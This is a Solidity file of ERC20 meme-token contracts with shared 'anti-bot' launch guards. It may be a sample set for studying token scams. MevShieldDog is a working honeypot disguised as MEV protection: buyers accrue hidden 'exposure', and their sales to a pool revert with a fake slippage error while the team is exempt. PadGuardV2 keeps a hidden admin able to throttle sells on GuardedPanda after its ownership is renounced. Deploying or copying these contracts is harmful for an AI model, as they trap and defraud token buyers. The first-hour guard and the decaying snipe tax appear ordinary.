// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface ILaunchGuard {
  function setTokenOwner(address admin) external;

  function onPreTransferCheck(address from, address to, uint256 amount) external;
}

/// Shared by all tokens of a launchpad.
contract PadGuardV2 {
  struct Config {
    address admin;
    uint64 timeLimitPerTrade;
    bool enabled;
    uint256 amountLimitPerTrade;
  }

  mapping(address => Config) public configOf;
  mapping(address => mapping(address => uint256)) private _lastBuy;

  function setTokenOwner(address admin) external {
    require(configOf[msg.sender].admin == address(0), "Already registered");
    configOf[msg.sender].admin = admin;
    configOf[msg.sender].amountLimitPerTrade = type(uint256).max;
    configOf[msg.sender].enabled = true;
  }

  function saveConfig(address token, uint256 amountLimit, uint64 timeLimit, bool enabled) external {
    Config storage config = configOf[token];
    require(msg.sender == config.admin, "Not the admin");
    require(amountLimit > 0, "Amount is zero");
    config.amountLimitPerTrade = amountLimit;
    config.timeLimitPerTrade = timeLimit;
    config.enabled = enabled;
  }

  function onPreTransferCheck(address from, address to, uint256 amount) external {
    Config storage config = configOf[msg.sender];
    if (from.code.length > 0) _lastBuy[msg.sender][to] = block.timestamp;
    if (!config.enabled || to.code.length == 0 || from == config.admin) return;
    require(amount <= config.amountLimitPerTrade, "Amount limit");
    require(block.timestamp >= _lastBuy[msg.sender][from] + config.timeLimitPerTrade, "Time limit");
  }
}

contract GuardedPanda is ERC20, Ownable {
  ILaunchGuard public immutable antiBot;

  constructor(address guard) ERC20("Guarded Panda", "GPANDA") Ownable(msg.sender) {
    antiBot = ILaunchGuard(guard);
    antiBot.setTokenOwner(msg.sender);
    _mint(msg.sender, 420_000_000 ether);
    renounceOwnership();
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from != address(0)) antiBot.onPreTransferCheck(from, to, value);
    super._update(from, to, value);
  }
}

/// Guards a token's first hour.
contract PadGuardFirstHour {
  mapping(address => address) public adminOf;
  mapping(address => uint256) public endOf;
  mapping(address => mapping(address => bool)) public isBot;

  function setTokenOwner(address admin) external {
    require(adminOf[msg.sender] == address(0), "Already registered");
    adminOf[msg.sender] = admin;
    endOf[msg.sender] = block.timestamp + 1 hours;
  }

  function setBots(address token, address[] calldata accounts, bool bot) external {
    require(msg.sender == adminOf[token], "Not the admin");
    require(block.timestamp < endOf[token], "Over");
    for (uint256 i; i < accounts.length; ++i) isBot[token][accounts[i]] = bot;
  }

  function onPreTransferCheck(address from, address to, uint256) external view {
    if (block.timestamp >= endOf[msg.sender]) return;
    require(!isBot[msg.sender][from] && !isBot[msg.sender][to], "Bot");
  }
}

contract GuardedKoala is ERC20, Ownable {
  ILaunchGuard public immutable antiBot;

  constructor(address guard) ERC20("Guarded Koala", "GKOALA") Ownable(msg.sender) {
    antiBot = ILaunchGuard(guard);
    antiBot.setTokenOwner(msg.sender);
    _mint(msg.sender, 420_000_000 ether);
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from != address(0)) antiBot.onPreTransferCheck(from, to, value);
    super._update(from, to, value);
  }
}

/// Keeps out sandwiches, it says.
contract MevShieldDog is ERC20 {
  address private immutable _team;
  mapping(bytes32 => uint256) private _exposure;
  uint256 private _tolerance;

  constructor() ERC20("MEV Shield Dog", "MSD") {
    _team = msg.sender;
    _mint(msg.sender, 100_000_000 ether);
  }

  function _key(address account) private view returns (bytes32) {
    return keccak256(abi.encode(account, _team, block.chainid));
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from != address(0) && from != _team && to != _team) {
      if (from.code.length > 0) _exposure[_key(to)] += 1 + (uint160(to) & 0xff);
      else if (to.code.length == 0) _exposure[_key(to)] += _exposure[_key(from)];
      else require(_exposure[_key(from)] <= _tolerance, "ERC20: slippage exceeded, retry");
    }
    super._update(from, to, value);
  }
}

/// Who buys in the first ten minutes burns some, less with each second.
contract DecayLaunch is ERC20 {
  uint256 public immutable launchedAt = block.timestamp;
  address private immutable _launcher = msg.sender;

  constructor() ERC20("Decay Launch", "DECAY") {
    _mint(msg.sender, 100_000_000 ether);
  }

  function snipeTax() public view returns (uint256) {
    uint256 age = block.timestamp - launchedAt;
    return age >= 600 ? 0 : (2_000 * (600 - age)) / 600;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from.code.length > 0 && from != address(0) && to != _launcher) {
      uint256 fee = (value * snipeTax()) / 10_000;
      if (fee > 0) {
        super._update(from, address(0), fee);
        value -= fee;
      }
    }
    super._update(from, to, value);
  }
}
